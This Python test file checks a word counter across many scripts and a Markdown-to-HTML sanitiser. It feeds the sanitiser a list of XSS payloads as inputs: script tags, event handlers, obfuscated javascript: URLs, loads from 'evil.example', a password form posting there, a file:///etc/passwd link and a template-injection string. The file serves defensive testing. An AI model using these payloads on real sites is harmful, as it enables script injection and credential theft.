"""Words are counted alike in every script, and text becomes HTML in which nothing runs."""

from html.parser import HTMLParser
from itertools import chain
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from publication.text import TAGS, as_html, count_words

ATTRIBUTES = {"a": {"href", "rel"}, "ol": {"start"}}
SCHEMES = {"", "http", "https", "mailto"}


@pytest.mark.parametrize(
    ("text", "count"),
    [
        ("", 0),
        (" \t\r\n\u00a0\u3000 ", 0),
        ("one", 1),
        ("three regular pathways", 3),
        ("  three \n regular\tpathways  ", 3),
        ("States’ co-operation isn't e-mail", 4),
        ("– … ! ? ( ) « » ؟ ، 。 、 — * #", 0),
        ("Yes — no.", 2),
        ("(see: objective 5, action 5(a))", 5),
        ("12,500.50 US$ in 2026", 4),
        ("https://example.org/a-b?c=d", 1),
        ("Пути регулярной миграции", 3),
        ("Les voies d’accès régulières", 4),
        ("مسارات الهجرة النظامية", 3),
        ("مَسَارَاتُ الهِجْرَةِ", 2),
        ("ما رأيك؟ نعم، حسناً", 4),
        ("三条正常移民途径", 8),
        ("三条，正常。移民！途径？", 8),
        ("2026年有3条途径", 7),
        ("IOM移民", 3),
        ("いちばん カタカナ", 8),
        ("한국어 낱말", 2),
        ("प्रवासन के मार्ग", 3),
        ("🙂 🙂", 0),
        ("word🙂", 1),
        ("naïve", 1),
        ("nai\u0308ve", 1),
    ],
)
def test_words_are_counted_as_word_processors_count_them(text: str, count: int) -> None:
    assert count_words(text) == count


words = st.from_regex(r"[a-zé]{1,8}", fullmatch=True)
characters = st.sampled_from("正常移民途径年有")


@given(st.lists(words, max_size=20), st.sampled_from([" ", "\n", "\t ", "\u00a0", " – "]))
def test_words_apart_are_as_many_as_were_written(written: list[str], gap: str) -> None:
    assert count_words(gap.join(written)) == len(written)


@given(st.lists(characters, max_size=20))
def test_each_chinese_character_is_a_word(written: list[str]) -> None:
    assert count_words("".join(written)) == count_words(" ".join(written)) == len(written)


@given(st.text(max_size=200), st.text(max_size=200))
def test_two_texts_have_the_words_of_both(one: str, other: str) -> None:
    assert count_words(f"{one}\n\n{other}") == count_words(one) + count_words(other)


class Found(HTMLParser):
    """The elements of a piece of HTML, and what stands between them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.comments: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def handle_decl(self, decl: str) -> None:
        self.comments.append(decl)


def assert_harmless(html: str) -> None:
    found = Found(html)
    assert {tag for tag, _attributes in found.elements} <= TAGS
    assert found.comments == []
    for tag, attributes in found.elements:
        assert set(attributes) <= ATTRIBUTES.get(tag, set()), html
        target = "".join((attributes.get("href") or "").split()).lower()
        assert urlsplit(target).scheme in SCHEMES, html
        assert tag != "a" or attributes.get("rel") == "nofollow noopener"


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("One.\n\nTwo.", "<p>One.</p>\n<p>Two.</p>\n"),
        ("One\ntwo", "<p>One<br>\ntwo</p>\n"),
        ("*so* **so**", "<p><em>so</em> <strong>so</strong></p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. c\n4. d", '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>\n'),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>\n"),
        ("5 < 6 & 7 > 6", "<p>5 &lt; 6 &amp; 7 &gt; 6</p>\n"),
        (r"\*not so\*", "<p>*not so*</p>\n"),
        ("# no heading", "<p># no heading</p>\n"),
        ("| no | table |", "<p>| no | table |</p>\n"),
        ("", ""),
    ],
)
def test_what_can_be_marked_up(text: str, html: str) -> None:
    assert as_html(text) == html


@pytest.mark.parametrize(
    "target", ["https://example.org/a?b=c&d", "http://example.org", "mailto:a@example.org", "/en/"]
)
def test_a_link_leads_out_and_vouches_for_nothing(target: str) -> None:
    [(tag, attributes)] = [e for e in Found(as_html(f"[there]({target})")).elements if e[0] == "a"]
    assert (tag, attributes) == ("a", {"href": target, "rel": "nofollow noopener"})


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<style>*{background:url(//evil.example)}</style>",
        "<p style='position:fixed' onclick=alert(1)>",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo 1 ?>",
        "<form action=//evil.example><input name=password>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "</p></div></main><h1>Breaking out</h1>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\nscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](\x01javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:x)",
        "[x](file:///etc/passwd)",
        '[x](https://a.example "onmouseover=alert(1)")',
        '[x](https://a.example" onclick="alert(1))',
        "![x](https://evil.example/pixel.png)",
        "![x](javascript:alert(1))",
        "[![x](//evil.example/p.png)](https://a.example)",
        "<https://a.example>",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n\n[x]",
        "`<script>alert(1)</script>`",
        "    <script>alert(1)</script>",
        "```html\n<script>alert(1)</script>\n```",
        "*<b onmouseover=alert(1)>*",
        "{{ settings.SECRET_KEY }} {% debug %}",
        "\x00<script\x00>",
        "\u202e<script>\u202c",
    ],
)
def test_nothing_runs_and_nothing_loads(attack: str) -> None:
    assert_harmless(as_html(attack))


def test_what_is_not_markup_is_shown_as_it_was_typed() -> None:
    assert Found(as_html("<script>alert(1)</script>")).text.strip() == "<script>alert(1)</script>"


MARKS = """
< > <script </ [ ]( ) javascript: &# ; ` * _ " ' = onclick ![ \\ http://a.example > - 1. #
"""
marks = st.sampled_from([*MARKS.split(), *(f"{mark} " for mark in MARKS.split()), "\n", "    "])


@given(st.lists(marks | st.text(max_size=6), max_size=40).map("".join))
@example("[x](&#x6A;avascript:alert(1))")
@settings(max_examples=400, deadline=None)
def test_no_text_whatever_gets_another_element_or_attribute_through(text: str) -> None:
    assert_harmless(as_html(text))


@given(st.lists(words, min_size=1, max_size=30), st.sampled_from(["\n\n", "\n", " "]))
def test_no_word_is_lost_on_the_way(written: list[str], gap: str) -> None:
    assert Found(as_html(gap.join(written))).text.split() == written


@pytest.mark.parametrize("piece", ["[", "*", "> ", "- ", "`", "![", "(", "<", "_", "\\", "[a]("])
def test_a_hostile_text_takes_no_time_to_speak_of(piece: str) -> None:
    """Long enough that what grows with the square of the length would not end here."""
    hostile = "".join(chain.from_iterable([piece] * 20_000))
    assert_harmless(as_html(hostile))
